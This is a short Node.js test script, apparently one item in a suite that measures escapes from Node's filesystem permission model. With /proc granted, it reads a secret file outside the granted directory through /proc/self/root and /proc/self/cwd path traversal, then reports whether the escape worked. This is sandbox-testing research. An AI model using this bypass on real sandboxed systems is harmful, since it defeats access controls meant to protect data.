// id: E03
// title: with /proc granted, /proc/self/root and /proc/self/cwd lead everywhere
// label: documented: https://nodejs.org/api/permissions.html#limitations-and-known-issues (links are followed to places that are not granted)
// reference: https://nodejs.org/api/permissions.html
// versions: >=20.0.0
// measured: escapes: every version measured
// grants: --allow-fs-read={grant} --allow-fs-write={grant} --allow-fs-read=/proc
// prove: content
// stops: landlock
'use strict';
const [grant, secret] = process.argv.slice(2);
const finish = (text) => { process.stdout.write(text.split('\n', 1)[0] + '\n'); process.exit(); };
const escaped = (evidence) => finish(`ESCAPED ${evidence}`);
const DENIAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ERR_DLOPEN_FAILED|EACCES|EPERM|ENOSYS|EXDEV|EROFS)$/;
const failed = (error) => finish(`${DENIAL.test(error.code) ? 'DENIED' : 'BROKEN'} ${error.code || error.name} ${error.message}`);
process.on('uncaughtException', failed);

const fs = require('fs');
const path = require('path');
try {
  escaped(fs.readFileSync(`/proc/self/root${secret}/secret.txt`, 'utf8'));
} catch (error) {
  try {
    process.chdir(grant);
    escaped(fs.readFileSync(`/proc/self/cwd/x/../../${path.basename(secret)}/secret.txt`, 'utf8'));
  } catch {
    failed(error);
  }
}
